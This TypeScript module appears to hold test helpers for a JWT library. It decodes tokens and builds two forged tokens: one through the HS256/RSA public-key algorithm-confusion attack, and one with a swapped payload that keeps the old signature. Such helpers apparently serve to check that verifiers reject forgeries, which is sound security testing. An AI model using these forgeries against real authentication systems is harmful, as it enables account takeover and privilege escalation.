import { createHmac, type KeyObject } from 'node:crypto';

export const b64url = (value: string | Buffer | object): string =>
  Buffer.from(typeof value === 'string' || Buffer.isBuffer(value) ? value : JSON.stringify(value)).toString('base64url');

/** Splits a compact JWS into its decoded header and payload, and its raw parts. */
export function parts(token: string): { header: any; payload: any; segments: string[] } {
  const segments = token.split('.');
  return {
    header: JSON.parse(Buffer.from(segments[0], 'base64url').toString()),
    payload: JSON.parse(Buffer.from(segments[1], 'base64url').toString()),
    segments,
  };
}

/** The classic key-confusion forgery: HS256 with the RSA public key (PEM) as the HMAC secret. */
export function hs256WithPublicKey(header: object, payload: object, publicKey: KeyObject): string {
  const input = `${b64url({ ...header, alg: 'HS256' })}.${b64url(payload)}`;
  const secret = publicKey.export({ format: 'pem', type: 'spki' });
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}

/** A token with its payload replaced but the original signature kept. */
export function withPayload(token: string, change: (payload: any) => object): string {
  const { payload, segments } = parts(token);
  return `${segments[0]}.${b64url(change(payload))}.${segments[2]}`;
}
